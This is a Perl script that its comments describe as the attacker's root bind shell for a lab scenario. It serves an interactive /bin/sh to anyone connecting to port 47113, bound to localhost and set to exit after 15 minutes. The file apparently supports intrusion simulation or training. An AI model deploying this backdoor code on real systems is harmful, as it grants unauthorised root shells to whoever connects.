#!/usr/bin/perl
# The attacker's bind shell of scenario-kb-docs (started as root): listens on
# 127.0.0.1:47113 and gives every connection its own /bin/sh -i. Ends by
# itself after 15 minutes (alarm), in case the lab's clean-up misses it.
use strict;
use warnings;
use IO::Socket::INET;
alarm 900;
$SIG{CHLD} = 'IGNORE';
my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 47113, Listen => 2,
                              ReuseAddr => 1, Proto => 'tcp') or exit 1;
while (my $c = $s->accept) {
    next if fork;
    close $s;
    open STDIN, '<&', $c; open STDOUT, '>&', $c; open STDERR, '>&', $c;
    exec '/bin/sh', '-i';
}
